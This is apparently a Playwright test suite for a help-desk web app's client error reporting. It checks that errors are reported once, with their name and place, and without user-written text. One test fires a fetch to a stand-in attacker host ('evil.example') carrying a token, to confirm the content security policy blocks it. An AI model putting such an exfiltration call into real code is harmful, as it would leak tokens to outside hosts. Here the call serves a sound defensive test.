"""What goes wrong in the page is told to the desk: its name and place, once, and nothing that anybody wrote."""

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from config.client_errors import ClientErrorInput
from tests.browser.conftest import OpenApp
from tests.browser.fake_answers import ANNA, VERA
from tests.browser.fake_desk import FakeDesk
from tests.browser.views import runs, wait_until
from tests.support.browser import browser_marks, picture

pytestmark = browser_marks
PATH = "client-errors/"
SECRET = "my parcel is at 5 Elm Street"


@pytest.fixture
def desk() -> FakeDesk:
    desk = FakeDesk()
    desk.write(desk.open_ticket("No parcel", status="open", assignee=ANNA), VERA, "Where is it?")
    return desk


@pytest.fixture
def page(open_app: OpenApp, desk: FakeDesk) -> Page:
    page = open_app(desk, expected=("exception", "policy", "ERR_", "Content Security", "Uncaught", "401", "sign it"))
    page.wait_for_selector(".row")
    return page


def break_it(page: Page, *scripts: str) -> None:
    """Each runs as a task of its own, so that its errors are nobody's."""
    for script in scripts:
        page.evaluate("(script) => { setTimeout(new Function(script)); }", script)


def told(page: Page, desk: FakeDesk, count: int) -> list[dict[str, Any]]:
    wait_until(page, lambda: len(desk.calls("POST", PATH)) >= count)
    bodies = desk.calls("POST", PATH)
    assert len(bodies) == count
    for body in bodies:
        ClientErrorInput(data=body).is_valid(raise_exception=True)
        assert "Elm" not in str(body)
    return bodies


def test_an_error_is_told_with_its_name_and_its_place(page: Page, desk: FakeDesk) -> None:
    break_it(page, "undefined.parcel")
    (body,) = told(page, desk, 1)
    assert (body["kind"], body["name"], body["page"]) == ("error", "TypeError", "/app/")
    assert body["detail"] == "Cannot read properties of undefined (reading 'parcel')"


def test_the_place_is_that_of_the_program(page: Page, desk: FakeDesk) -> None:
    script = """async () => {
      const found = performance.getEntriesByType("resource").find(({ name }) => name.endsWith("/dom.js"));
      const { clone } = await import(found.name);
      setTimeout(() => clone("no-such-template"));
    }"""
    page.evaluate(script)
    (body,) = told(page, desk, 1)
    assert "/static/miniapp/core/dom.js:" in body["stack"][0]
    assert body["stack"][0].startswith("patternOf ")


def test_nothing_that_anybody_wrote_is_told(page: Page, desk: FakeDesk) -> None:
    break_it(
        page,
        f"throw new Error('{SECRET}')",
        f"JSON.parse('{SECRET}')",
        f"Promise.reject('{SECRET}')",
        f"new URL('{SECRET}')",
        f"Promise.reject(Object.assign(new Error('{SECRET}'), {{ status: 409, code: 'stale' }}))",
    )
    bodies = told(page, desk, 5)
    assert sorted((body["kind"], body["name"], body["detail"]) for body in bodies) == [
        ("error", "Error", ""),
        ("error", "SyntaxError", ""),
        ("error", "TypeError", "Failed to construct 'URL'"),
        ("rejection", "Error", "409 stale"),
        ("rejection", "String", ""),
    ]


def broken(module: str) -> Callable[[Route], None]:
    """Serves static files, of which one module has an error of its own."""

    def serve(route: Route) -> None:
        if route.request.url.endswith(f"/{module}"):
            route.fulfill(content_type="text/javascript", body="undefined.parcel")
        else:
            route.fallback()

    return serve


@pytest.mark.parametrize(("me", "module"), [(ANNA, "miniapp/agent.js"), (VERA, "miniapp/customer.js")])
def test_an_app_with_an_error_of_its_own_is_broken_and_not_out_of_reach(
    open_app: OpenApp, me: dict[str, Any], module: str
) -> None:
    desk = FakeDesk(me)
    page = open_app(desk, static=broken(module), expected=("exception", "Uncaught"))
    expect(page.locator("h1")).to_have_text("Something in this app is broken")
    expect(page.get_by_role("button", name="Try again")).to_be_visible()
    picture(page, "broken")
    (body,) = told(page, desk, 1)
    assert (body["kind"], body["name"]) == ("rejection", "TypeError")
    assert body["detail"] == "Cannot read properties of undefined (reading 'parcel')"


@pytest.mark.parametrize(
    ("module", "path", "shows", "asks"),  # for the form ask its screen, and whoever fetches it beforehand
    [("later.js", "", ".row", 1), ("screens/new-ticket.js", "new", ".place .notice", 2)],
)
def test_an_error_of_a_part_that_comes_later_is_told_too(
    open_app: OpenApp, desk: FakeDesk, module: str, path: str, shows: str, asks: int
) -> None:
    page = open_app(desk, path, static=broken(module), expected=("exception", "Uncaught", "console error"))
    expect(page.locator(shows).first).to_be_visible()
    for body in told(page, desk, asks):
        assert body["detail"] == "Cannot read properties of undefined (reading 'parcel')"


BROKEN = "Cannot read properties of undefined (reading 'parcel')"


def test_an_error_of_the_program_while_one_goes_on_by_the_refresh_token_is_no_silent_desk(
    open_app: OpenApp, desk: FakeDesk
) -> None:
    page = open_app(desk, static=broken("data/resuming.js"), expected=("exception", "Uncaught", "401"))
    page.wait_for_selector(".row")
    desk.fail("POST", "auth/telegram/", 401, code="init_data_expired", times=9)
    page.reload()
    expect(page.locator("h1")).to_have_text("Something in this app is broken")
    (body,) = told(page, desk, 1)
    assert (body["kind"], body["detail"]) == ("rejection", BROKEN)


def test_where_the_way_to_go_on_does_not_arrive_the_desk_is_shown_as_it_was(open_app: OpenApp, desk: FakeDesk) -> None:
    def serve(route: Route) -> None:
        if route.request.url.endswith("/data/resuming.js"):
            route.abort()
        else:
            route.fallback()

    page = open_app(desk, static=serve, expected=("ERR_FAILED", "401"))
    page.wait_for_selector(".row")
    is_kept = "Object.keys(localStorage).some((key) => key.startsWith('desk.kept'))"
    wait_until(page, lambda: page.evaluate(is_kept))
    desk.fail("POST", "auth/telegram/", 401, code="init_data_expired", times=9)
    page.reload()
    expect(page.locator(".row")).to_contain_text("No parcel")
    page.add_init_script("localStorage.clear()")
    page.reload()
    expect(page.locator("h1")).to_have_text("The desk does not answer")
    assert desk.calls("POST", PATH) == []


@pytest.mark.parametrize("module", ["screens/chat-messages.js", "ui/contents.js", "screens/hint.js"])
def test_an_error_of_a_part_that_a_conversation_does_without_is_told(
    open_app: OpenApp, desk: FakeDesk, module: str
) -> None:
    (ticket,) = desk.tickets.values()
    desk.write(ticket, ANNA, "In bold", entities=[{"type": "bold", "offset": 3, "length": 4}])
    page = open_app(desk, f"tickets/{ticket['number']}", static=broken(module), expected=("exception", "Uncaught"))
    expect(page.locator(".message .text")).to_have_text(["Where is it?", "In bold"])
    (body,) = told(page, desk, 1)
    assert (body["kind"], body["detail"]) == ("error", BROKEN)


def test_an_error_of_the_way_to_a_quoted_message_is_told(open_app: OpenApp, desk: FakeDesk) -> None:
    (ticket,) = desk.tickets.values()
    (asked,) = desk.messages[ticket["id"]]
    desk.write(ticket, ANNA, "Here", reply_to=asked["id"])
    static = broken("screens/finding.js")
    page = open_app(desk, f"tickets/{ticket['number']}", static=static, expected=("exception", "Uncaught"))
    page.locator("[data-action=quote]").click()
    (body,) = told(page, desk, 1)
    assert (body["kind"], body["detail"]) == ("error", BROKEN)


def test_a_press_whose_part_is_broken_does_not_speak_of_the_connection(open_app: OpenApp, desk: FakeDesk) -> None:
    (ticket,) = desk.tickets.values()
    static = broken("ui/message-menu.js")
    page = open_app(desk, f"tickets/{ticket['number']}", static=static, expected=("exception", "Uncaught"))
    page.wait_for_selector(".message")
    runs(page, "screens/chat-messages.js")
    page.locator("[data-action=menu]").click()
    expect(page.locator(".toast")).to_have_text("Something went wrong here. Try again in a moment.")
    (body,) = told(page, desk, 1)
    assert (body["kind"], body["detail"]) == ("error", BROKEN)


def test_what_the_policy_refuses_is_told_without_its_address(page: Page, desk: FakeDesk) -> None:
    break_it(page, "fetch('https://evil.example/take?token=1').catch(() => {})")
    (body,) = told(page, desk, 1)
    assert (body["kind"], body["name"], body["detail"]) == ("policy", "connect-src", "https://evil.example")


def test_the_same_is_told_once_and_a_page_that_goes_on_breaking_is_silent(page: Page, desk: FakeDesk) -> None:
    break_it(page, *["undefined.a"] * 3)
    told(page, desk, 1)
    break_it(page, *(f"undefined.b{number}" for number in range(9)))
    told(page, desk, 5)
    page.wait_for_timeout(300)
    assert len(desk.calls("POST", PATH)) == 5


def test_what_breaks_before_the_sign_in_is_told_too(open_app: OpenApp, desk: FakeDesk) -> None:
    early = "addEventListener('DOMContentLoaded', () => setTimeout(() => undefined.early))"
    page = open_app(desk, telegram=False, before=early, expected=("exception",))
    (body,) = told(page, desk, 1)
    assert body["detail"].endswith("(reading 'early')")


def test_without_a_network_it_is_told_later(page: Page, desk: FakeDesk) -> None:
    break_it(page, "undefined.first")
    told(page, desk, 1)
    desk.fail("POST", PATH)
    break_it(page, "undefined.parcel")
    wait_until(page, lambda: len(desk.calls("POST", PATH)) == 2)
    # when the page has heard of the failure is its own business
    wait_until(page, lambda: page.evaluate("dispatchEvent(new Event('online'))") and len(desk.calls("POST", PATH)) > 2)
    assert told(page, desk, 3)[1] == desk.calls("POST", PATH)[2]


def test_a_token_that_has_ended_is_left_away(page: Page, desk: FakeDesk) -> None:
    desk.fail("POST", PATH, 401, code="unauthenticated")
    with page.expect_response(lambda response: response.status == 204) as answer:
        break_it(page, "undefined.parcel")
    assert "authorization" not in answer.value.request.headers
    told(page, desk, 2)
